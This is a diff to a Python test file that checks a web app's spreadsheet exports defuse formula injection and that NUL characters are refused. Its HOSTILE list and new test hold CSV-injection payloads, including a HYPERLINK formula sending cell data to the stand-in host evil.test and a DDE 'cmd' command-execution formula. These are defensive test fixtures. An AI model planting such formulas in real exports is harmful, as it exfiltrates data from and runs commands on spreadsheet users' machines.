@@ -44,12 +44,14 @@ def csv_rows(raw: bytes) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(raw.decode())))
 
 
-# Cells a visitor can write that a spreadsheet would run as formulas unless defused.
+# Cells a visitor can write that a spreadsheet would run as formulas unless defused. (A NUL
+# is refused at the door, see test_a_nul_character_is_refused_on_every_backend; a NUL
+# stored earlier is dropped as these control characters are, see the encoder's test.)
 HOSTILE = [
-    '\x00=HYPERLINK("http://evil.test/?d="&A1,"Open")', "=1+1", " =1+1",
+    '\x08=HYPERLINK("http://evil.test/?d="&A1,"Open")', "=1+1", " =1+1",
     "   =cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "+1+1", "-1+1", "@SUM(1,1)",
     "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "\x01\x02=1+1", "\x1f =1+1",
-    "\x0b=1+1", "\u00a0=1+1", "\u3000=1+1", "\x00\x00 \x1b=2*3",
+    "\x0b=1+1", "\u00a0=1+1", "\u3000=1+1", "\x1b\x07 \x1b=2*3",
 ]  # fmt: skip
 # UTF-8, formulas evaluated, leading and trailing spaces removed, special numbers detected:
 # the import settings under which the most cells could turn into formulas.
@@ -165,6 +167,23 @@ async def test_exports_never_carry_a_live_formula(client, auth, tmp_path):
     texts = {text for _, text in cells}
     missing = [c for c in contents if c.replace("\r\n", "\n").replace("\r", "\n") not in texts]
     assert missing == []
+
+
+async def test_a_nul_character_is_refused_on_every_backend(client, auth):
+    """`"\\u0000=HYPERLINK(...)"` never reaches the database (PostgreSQL cannot store it:
+    it was a 500 there): a 400 naming the field, for a visitor's chat and a form alike."""
+    agent = await new_agent(client, auth)
+    body = {"agentId": agent["id"], "messages": user('\x00=HYPERLINK("http://evil.test")')}
+    resp = await client.post("/api/v1/chat", json=body)
+    await assert_error(resp, 400, "VALIDATION_ERROR", "messages.0.content: must not contain")
+    resp = await client.post(
+        "/api/v1/form-submissions/submit",
+        json={"toolId": "tool_x", "formData": {"note\x00": "hi"}},
+    )
+    await assert_error(resp, 400, "VALIDATION_ERROR", "formData: must not contain the NUL")
+    # An escaped backslash before `u0000` is no NUL: the text goes through.
+    body["messages"] = user("C:\\u0000")
+    assert (await chat(client, body)).names[-1] == "message_stop"
 
 
 async def test_conversations_export_as_jsonl_with_the_lists_filters(client, auth):
